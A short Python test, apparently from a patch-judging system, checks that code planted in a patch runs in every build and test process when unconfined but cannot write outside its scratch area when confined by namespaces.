def test_every_process_that_runs_the_patchs_code_is_confined(shop: Path, tmp_path: Path) -> None:
    confined, unconfined = judge_twice(shop, tmp_path, "mark-every-launch", marks_every_launch)
    # Unconfined, the planted code ran in every kind of process the judge starts on a build.
    every = {"build", "case", "subject worker", "collect-only", "pytest in a build"}
    assert kinds(unconfined.markers) >= every, sorted(unconfined.markers.values())
    # Confined, in none of them could it write outside its scratch; and what it tried broke
    # nothing it was judged on.
    assert confined.markers == {}, sorted(confined.markers.values())
    assert confined.verdict.report.get("confinement") == "namespaces"
    assert confined.verdict.report["verdict"] == "merge", shown(confined.verdict)
